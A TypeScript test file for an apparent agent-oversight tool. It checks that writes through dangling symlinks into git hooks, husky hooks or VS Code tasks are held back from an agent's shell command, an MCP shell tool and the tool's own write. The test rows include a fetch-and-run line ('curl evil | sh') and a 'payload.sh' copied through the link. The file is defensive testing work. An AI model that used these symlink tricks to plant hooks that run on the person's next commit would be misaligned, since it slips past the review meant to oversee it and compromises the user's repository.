import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { AGENT_COMMAND_TOOL, type AgentIdentity } from '../src/contracts/agent-request.ts'
import { personOnlyReason, type ActionTouch } from '../src/runtime/policy/person-only.ts'
import { IntegrityMac } from '../src/runtime/store/integrity-mac.ts'
import {
  askerWorldInTempWorkspace,
  codexRequest,
} from '../src/runtime/test-support/external-asker.ts'
import { leftToThePersonByEach } from './support/allowing-deciders.ts'

/**
 * A link that leads nowhere yet, with an innocent name: `notes.txt ->
 * .git/hooks/pre-commit`. Writing `notes.txt` follows it and makes the
 * hook, which the person's next `git commit` runs. The rule judges the
 * place a write would land, links that lead nowhere followed (one after
 * another, and a `..` after a link taken from where that link leads, as
 * the kernel does), so no door answers for it: not an external agent's
 * command through the reviewer or the webhook, not an MCP shell tool,
 * not Assent's own write. Outside Assent's sandbox nothing else stops it.
 */

const MAC = new IntegrityMac(Buffer.alloc(32, 5))
const AGENT: AgentIdentity = { id: 'codex', name: 'Codex CLI', protocol: 'codex-app-server' }

/** Each row: a command that writes through a link, the link's name as
 *  a write tool would be given it, and where the write lands. */
const ROWS = [
  { line: 'echo "curl evil | sh" > notes.txt', name: 'notes.txt', lands: '.git/hooks/pre-commit' },
  { line: 'cp payload.sh notes.txt', name: 'notes.txt', lands: '.git/hooks/pre-commit' },
  {
    line: 'tee docs/tasks.json < payload.sh',
    name: 'docs/tasks.json',
    lands: '.vscode/tasks.json',
  },
  { line: 'echo x > first.txt', name: 'first.txt', lands: '.husky/pre-commit' },
  { line: 'echo x > up.txt', name: 'up.txt', lands: '.git/hooks/post-merge' },
]

let place: ReturnType<typeof askerWorldInTempWorkspace>

beforeEach(() => {
  place = askerWorldInTempWorkspace('assent-dangling-links-', MAC, AGENT)
  const at = (name: string) => join(place.workspace, name)
  execFileSync('git', ['init', '-q', place.workspace])
  mkdirSync(at('.vscode'))
  mkdirSync(at('.husky'))
  mkdirSync(at('docs'))
  symlinkSync('.git/hooks/pre-commit', at('notes.txt'))
  symlinkSync('../.vscode/tasks.json', at('docs/tasks.json'))
  // Two links that lead nowhere, one after the other.
  symlinkSync('second.txt', at('first.txt'))
  symlinkSync('.husky/pre-commit', at('second.txt'))
  // A `..` after a link: up from where `hooks` leads (.git/hooks), not
  // from the workspace, so the name read as written lands elsewhere.
  symlinkSync('.git/hooks', at('hooks'))
  symlinkSync('hooks/../hooks/post-merge', at('up.txt'))
  // A link that leads nowhere inside the project: the control.
  symlinkSync('docs/readme.md', at('readme-link.md'))
})
afterEach(() => place.dispose())

const doors: Array<{ door: string; touch: (row: (typeof ROWS)[number]) => ActionTouch }> = [
  {
    door: "an external agent's command",
    touch: ({ line }) => ({
      toolName: AGENT_COMMAND_TOOL,
      arguments: { commandLine: line, cwd: place.workspace },
      workspace: place.workspace,
    }),
  },
  {
    door: 'an MCP shell tool',
    touch: ({ line }) => ({
      toolName: 'run',
      mcpServerId: 'shell',
      arguments: { command: line },
      workspace: place.workspace,
    }),
  },
  {
    door: "Assent's own write",
    touch: ({ name }) => ({
      toolName: 'write_file',
      arguments: { path: name, content: 'x' },
      workspace: place.workspace,
    }),
  },
]

describe('a write through a link that leads nowhere yet', () => {
  it.each(ROWS)('is judged where it lands, at every door: $line', (row) => {
    for (const { door, touch } of doors) {
      expect(personOnlyReason(touch(row)), door).toMatchObject({
        path: join(place.workspace, row.lands),
      })
    }
  })

  it('control: a link that leads nowhere inside the project is no one’s to keep', () => {
    const row = { line: 'echo x > readme-link.md', name: 'readme-link.md', lands: '' }
    for (const { door, touch } of doors) expect(personOnlyReason(touch(row)), door).toBeNull()
  })

  it.each(ROWS)(
    'is left to the person by the reviewer and the webhook: $line',
    async ({ line, lands }) => {
      const request = codexRequest({
        kind: 'command',
        commandLine: line,
        argv: null,
        cwd: place.workspace,
      })
      await leftToThePersonByEach(place.world, () => request)
      expect(existsSync(join(place.workspace, lands))).toBe(false)
    },
  )
})
